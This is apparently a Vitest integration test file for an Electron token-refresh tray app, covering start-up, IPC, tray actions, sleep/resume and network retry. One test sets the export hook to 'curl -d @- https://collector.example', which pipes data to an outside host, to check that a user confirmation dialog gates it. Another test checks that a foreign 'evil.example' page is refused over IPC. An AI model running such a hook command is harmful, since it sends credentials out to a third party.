import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { startSimulator, type TorusSimulator } from '../scripts/simulator/torus-simulator.js';
import { confFactory, SettingsStore } from '../main/core/settings-store.js';
import { Vault } from '../main/core/infra/keychain.js';
import { addProfile } from '../main/core/domain/profiles.js';
import { ipcName } from '../preload/contract.js';
import type { AppState, Result } from '../preload/contract.js';
import { tempDir, uniqueProfileId, distinctiveCredentials } from './helpers/core-fixtures.js';

/**
 * The composition root under the fake `electron` module, with everything else real: the
 * keychain (throwaway Secret Service), the settings file, and HTTP to the simulator.
 */
const fake = await vi.hoisted(async () => (await import('./helpers/fake-electron.js')).createFakeElectron());
vi.mock('electron', () => fake);
const { startApp } = await import('../main/app-main.js');
type Running = NonNullable<Awaited<ReturnType<typeof startApp>>>;

let sim: TorusSimulator;
let config: { path: string; remove: () => void };
let running: Running | null = null;
const vault = new Vault();
const quiet = () => undefined;

beforeAll(async () => {
  sim = await startSimulator({ requestTokenReuse: 'reusable' });
});
afterAll(async () => {
  await sim.close();
});
beforeEach(() => {
  fake.__test.reset();
  config = tempDir('torus-app-main');
  sim.setFault('none');
  sim.resetLog();
});
afterEach(() => {
  running?.shutdown();
  running = null;
  config.remove();
});

/** A profile with credentials saved, as after setup. */
async function seedProfile(): Promise<string> {
  const creds = distinctiveCredentials();
  sim.update({ apiKey: creds.apiKey, apiSecret: creds.apiSecret });
  const id = uniqueProfileId('app');
  const settings = SettingsStore.open({ dir: config.path });
  settings.update((draft) => {
    const p = addProfile(draft, { name: id, baseUrl: sim.url });
    draft.activeProfileId = p.id;
  });
  await vault.set(id, 'apiKey', creds.apiKey);
  await vault.set(id, 'apiSecret', creds.apiSecret);
  await vault.set(id, 'requestToken', sim.issueRequestToken());
  return id;
}

async function start(argv: string[] = ['electron', '.'], extra: { networkPollMs?: number } = {}): Promise<Running> {
  const app = await startApp({ argv, env: { ...process.env, TORUS_TOKEN_CONFIG_DIR: config.path }, platform: 'linux', confFactory, log: quiet, ...extra });
  if (!app) throw new Error('startApp returned null');
  running = app;
  return app;
}

describe('the app at start-up', () => {
  it('first run (no profile): the popover opens for the guided setup', async () => {
    const app = await start();
    await app.startup;
    expect(app.popover.isVisible()).toBe(true);
    expect(fake.__test.lastTray().tooltip).toMatch(/not set up|no token/i);
  });

  it('a launch at login (--hidden) refreshes on its own, shows no window, and says so in a notification', async () => {
    const id = await seedProfile();
    const app = await start(['electron', '.', '--hidden']);
    await app.startup;
    expect(sim.requestCount('generate')).toBe(1);
    expect(app.popover.isVisible()).toBe(false);
    expect(app.service.state(id).status).toBe('fresh');
    await vi.waitFor(() => expect(fake.__test.world.shownNotifications.map((n) => `${n.title} ${n.body}`).join(' ')).toMatch(/refreshed at login/i));
    expect(fake.__test.lastTray().tooltip).toMatch(/fresh/);
    await vault.deleteProfile(id);
  });

  it('a second launch opens the popover of the running instance; without the lock it quits', async () => {
    const app = await start(['electron', '.', '--hidden']);
    await app.startup;
    expect(app.popover.isVisible()).toBe(false);
    fake.app.secondInstance();
    expect(app.popover.isVisible()).toBe(true);

    fake.__test.world.singleInstanceLock = false;
    const quitsBefore = fake.__test.world.quitCalls;
    expect(await startApp({ env: { ...process.env, TORUS_TOKEN_CONFIG_DIR: config.path }, confFactory, log: quiet })).toBeNull();
    expect(fake.__test.world.quitCalls).toBe(quitsBefore + 1);
  });
});

describe('the running app', () => {
  it('answers our renderer over IPC and refuses a foreign page', async () => {
    const id = await seedProfile();
    await start(['electron', '.', '--hidden']);
    const ours = (await fake.ipcMain.invoke(ipcName('state:get'), null)) as Result<AppState>;
    expect(ours.ok).toBe(true);
    if (ours.ok) expect(ours.value.activeProfileId).toBe(id);
    const foreign = (await fake.ipcMain.invoke(ipcName('token:reveal'), {}, { senderUrl: 'https://evil.example/' })) as Result<unknown>;
    expect(foreign).toMatchObject({ ok: false, error: { kind: 'forbidden' } });
    await vault.deleteProfile(id);
  });

  it('a hook command set from the popover runs only after a native "Allow" dialog', async () => {
    const id = await seedProfile();
    await start(['electron', '.', '--hidden']);
    fake.__test.world.dialogResponse = 1; // Cancel
    const declined = (await fake.ipcMain.invoke(ipcName('profiles:update'), {
      profileId: id,
      exportHookCommand: 'curl -d @- https://collector.example',
    })) as Result<AppState>;
    expect(declined).toMatchObject({ ok: false, error: { kind: 'invalid-input' } });
    expect(String(fake.__test.world.messageBoxes.at(-1)?.detail)).toContain('curl -d @- https://collector.example');
    fake.__test.world.dialogResponse = 0; // Allow
    const allowed = (await fake.ipcMain.invoke(ipcName('profiles:update'), { profileId: id, exportHookCommand: 'cat > /dev/null' })) as Result<AppState>;
    expect(allowed.ok).toBe(true);
    if (allowed.ok) expect(allowed.value.profiles.find((p) => p.id === id)?.exportHookCommand).toBe('cat > /dev/null');
    await vault.deleteProfile(id);
  });

  it('a refresh by the CLI (another process) reaches the running app: tray and popover update', async () => {
    const id = await seedProfile();
    const app = await start(['electron', '.', '--hidden']);
    await app.startup;
    const sent = app.popover.window.webContents as unknown as { sent: Array<{ channel: string; args: unknown[] }> };
    const before = sent.sent.length;
    // The CLI is a separate process with its own SettingsStore on the same folder.
    const cli = SettingsStore.open({ dir: config.path });
    cli.update((draft) => {
      draft.profiles.find((p) => p.id === id)!.name = 'Renamed by CLI';
    });
    await vi.waitFor(() => {
      const pushed = sent.sent.slice(before).filter((m) => m.channel === ipcName('state:changed'));
      expect(JSON.stringify(pushed.at(-1)?.args)).toContain('Renamed by CLI');
    });
    expect(fake.__test.lastTray().tooltip).toBeTruthy();
    await vault.deleteProfile(id);
  });

  it('"Refresh now" in the tray menu refreshes, and state changes reach the popover', async () => {
    const id = await seedProfile();
    const app = await start();
    await app.startup;
    const before = sim.requestCount('generate');
    const menu = fake.__test.lastTray().contextMenu!;
    menu.clickItem(/Refresh now/);
    await vi.waitFor(() => expect(sim.requestCount('generate')).toBe(before + 1));
    await vi.waitFor(() => expect(app.service.state(id).status).toBe('fresh'));
    const sent = app.popover.window.webContents as unknown as { sent: Array<{ channel: string }> };
    expect(sent.sent.some((m) => m.channel === ipcName('state:changed'))).toBe(true);
    await vault.deleteProfile(id);
  });

  it('waking from sleep re-checks: a token that went stale meanwhile is refreshed', async () => {
    const id = await seedProfile();
    const app = await start(['electron', '.', '--hidden']);
    await app.startup;
    expect(sim.requestCount('generate')).toBe(1);
    // Pretend the machine slept past the expiry.
    app.settings.update((draft) => {
      draft.tokens[id]!.expiresAt = Date.now() - 1000;
    });
    fake.powerMonitor.emit('resume');
    await vi.waitFor(() => expect(sim.requestCount('generate')).toBe(2));
    await vi.waitFor(() => expect(app.service.state(id).status).toBe('fresh'));
    await vault.deleteProfile(id);
  });

  it('a refused request token at login asks for sign-in, and the notification opens the sign-in window', async () => {
    const id = await seedProfile();
    sim.setFault('reject-401', { routes: ['generate'] });
    const app = await start(['electron', '.', '--hidden']);
    await app.startup;
    expect(app.service.state(id).status).toBe('needs-sign-in');
    await vi.waitFor(() => expect(fake.__test.world.shownNotifications.length).toBeGreaterThan(0));
    const shown = fake.__test.world.shownNotifications.at(-1)!;
    expect(shown.title + shown.body).toMatch(/sign in/i);
    const windowsBefore = fake.__test.world.windows.length;
    shown.notification.click();
    await vi.waitFor(() => expect(fake.__test.world.windows.length).toBe(windowsBefore + 1));
    const signIn = fake.__test.lastWindow();
    expect(signIn.webContents.getURL()).toContain('/connect/login/');
    signIn.close();
    await vault.deleteProfile(id);
  });

  it('regression: when the network comes back after a network failure, the refresh is retried at once (not after the backoff)', async () => {
    const id = await seedProfile();
    const app = await start(['electron', '.'], { networkPollMs: 20 });
    await app.startup;
    fake.__test.world.online = false;
    sim.setFault('reset', { routes: ['generate'] });
    await expect(app.controller.refresh({ profileId: id })).rejects.toMatchObject({ kind: 'network' });
    const failed = sim.requestCount('generate');
    expect(app.service.state(id).status).toBe('failed');
    // Still offline: nothing is retried (the schedule's own retry is a minute away).
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(sim.requestCount('generate')).toBe(failed);
    sim.setFault('none');
    fake.__test.world.online = true;
    await vi.waitFor(() => expect(app.service.state(id).status).toBe('fresh'));
    expect(sim.requestCount('generate')).toBe(failed + 1);
    await vault.deleteProfile(id);
  });

  it('the network watch holds no timer while online or idle, and one while offline after a failure', async () => {
    const { createNetworkWatch } = await import('../main/app-main.js');
    let online = true;
    let pending = 0;
    let backs = 0;
    const timers = {
      setTimeout: (cb: () => void) => (pending++, setTimeout(() => (pending--, cb()), 1)),
      clearTimeout: (h: unknown) => (pending--, clearTimeout(h as NodeJS.Timeout)),
      now: () => Date.now(),
    };
    const watch = createNetworkWatch(
      () => online,
      timers,
      () => backs++,
      1,
    );
    watch.update(true); // a failure, but online: the backoff handles it
    expect(watch.watching).toBe(false);
    online = false;
    watch.update(true);
    watch.update(true);
    expect(pending).toBe(1);
    online = true;
    await vi.waitFor(() => expect(backs).toBe(1));
    expect(watch.watching).toBe(false);
    online = false;
    watch.update(true);
    watch.update(false); // the failure is gone (e.g. a manual refresh worked)
    expect(watch.watching).toBe(false);
    expect(pending).toBe(0);
  });
});
